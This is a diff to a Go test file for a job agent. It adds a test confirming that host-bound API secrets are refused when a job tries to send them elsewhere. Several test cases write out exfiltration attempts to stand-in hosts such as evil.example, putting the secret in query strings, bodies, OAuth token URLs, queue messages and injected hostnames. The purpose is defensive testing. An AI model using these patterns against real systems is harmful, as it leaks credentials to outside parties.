@@ -20,6 +20,8 @@ import (
 	"github.com/jobagent/jobagent/jobs"
 	"github.com/jobagent/jobagent/jobs/action"
 	"github.com/jobagent/jobagent/targets"
+	"github.com/jobagent/jobagent/targets/outbound"
+	"github.com/jobagent/jobagent/targets/queue"
 	"github.com/jobagent/jobagent/testenv"
 	"github.com/jobagent/jobagent/testenv/endpoint"
 	"github.com/jobagent/jobagent/testenv/invariant"
@@ -98,15 +100,81 @@ func (f *actionFixture) messages(t *testing.T, id uuid.UUID, kind targets.Messag
 	return texts
 }
 
+// A secret that is bound to hosts is sent to nothing else, whatever an author writes; the attempt
+// fails before it sends, once, and says why.
+func TestBoundSecretsGoToTheirHostsOnly(t *testing.T) {
+	const secret = "s3cret-of-the-api"
+	actionBubble(t, 0, done, func(t *testing.T, f *actionFixture) {
+		f.startAgent(t, agent.Config{}, func(a *agent.Actions) {
+			a.Secret = func(_ context.Context, name string) (action.Value, error) {
+				if name == "sas" {
+					return action.Secret(tokenOfTests), nil
+				}
+				return action.Secret(secret, "api.example.com", "*.example.org:8080"), nil
+			}
+			network, err := outbound.New(f.endpoint.Config())
+			require.NoError(t, err)
+			a.Runners[action.TypeStorageQueue] = queue.NewRunner(queue.Config{Network: network})
+		})
+		const key = `, "allow_http": true, "method": "POST", "headers": {"X-Api-Key": "$(secret.api)"}}`
+		oauth := func(token string) string {
+			return `{"url": "http://api.example.com/", "allow_http": true, "auth": {"kind": "oauth2-client-credentials", "token_url": "` + token +
+				`", "client_id": "c", "client_secret": "$(secret.api)"}}`
+		}
+		for i, c := range []struct {
+			command string
+			host    string // that may not receive the secret; empty: the action succeeds
+			storage bool
+		}{
+			{command: `{"url": "http://api.example.com/"` + key},
+			{command: `{"url": "http://API.Example.com.:8080/?x=$(secret.api)"` + key},
+			{command: `{"url": "http://a.example.org:8080/"` + key},
+			{command: `{"url": "http://$(param.host)/"` + key},
+			{command: `{"endpoints": ["http://api.example.com/", "http://evil.example/"]` + key},
+			{command: `{"url": "http://evil.example/"` + key, host: "evil.example"},
+			{command: `{"url": "http://evil.example/?x=$(secret.api)", "allow_http": true}`, host: "evil.example"},
+			{command: `{"url": "http://evil.example/", "allow_http": true, "body": {"x": "$(secret.api)"}}`, host: "evil.example"},
+			{command: `{"url": "http://a.example.org/"` + key, host: "a.example.org"},
+			{command: `{"url": "http://$(param.host).evil.example/"` + key, host: "api.example.com.evil.example"},
+			{command: `{"endpoints": ["http://evil.example/", "http://api.example.com/"]` + key, host: "evil.example"},
+			{command: oauth("http://login.evil.example/token"), host: "login.evil.example"},
+			{command: `{"account": "http://store.evil.example/account", "queue": "jobs", "message": "$(secret.api)", "sas_token": "$(secret.sas)",
+				"allow_http": true}`, host: "store.evil.example", storage: true},
+		} {
+			before := len(f.endpoint.Requests())
+			name := fmt.Sprintf("job %d", i)
+			var options []func(*controldb.StepSpec)
+			if c.storage {
+				options = append(options, storageStep)
+			}
+			f.addAction(t, name, "", c.command, options...)
+			id := f.startWith(t, name, `{"host": "api.example.com"}`)
+			rows := f.ended(t, id, time.Minute)
+			last := rows[len(rows)-1]
+			if c.host == "" {
+				require.Equal(t, jobs.Succeeded, rows[0].Lifecycle, "%s: %s", c.command, last.LastMessage)
+				require.Len(t, f.endpoint.Requests(), before+1, c.command)
+				continue
+			}
+			require.Equal(t, jobs.Failed, rows[0].Lifecycle, c.command)
+			require.Contains(t, last.LastMessage, "Nothing was sent: secret ", c.command)
+			require.Contains(t, last.LastMessage, "it may not be sent to "+c.host+"; its hosts are api.example.com, *.example.org:8080", c.command)
+			require.NotContains(t, last.LastMessage, secret)
+			require.Equal(t, 1, last.Attempts, c.command)
+			require.Len(t, f.endpoint.Requests(), before, c.command)
+		}
+	})
+}
+
 func TestHTTPStepCallsItsEndpoint(t *testing.T) {
 	const secret = "s3cret-of-the-api"
 	actionBubble(t, 0, done, func(t *testing.T, f *actionFixture) {
 		f.startAgent(t, agent.Config{}, func(a *agent.Actions) {
-			a.Secret = func(_ context.Context, name string) (string, error) {
+			a.Secret = func(_ context.Context, name string) (action.Value, error) {
 				if name != "api" {
-					return "", agent.ErrNoSecret
+					return action.Value{}, agent.ErrNoSecret
 				}
-				return secret, nil
+				return action.Secret(secret), nil
 			}
 		})
 		f.addAction(t, "call", "", `{"url": "http://api.example.com:8080/$(param.tenant)?attempt=$(attempt)", "allow_http": true,
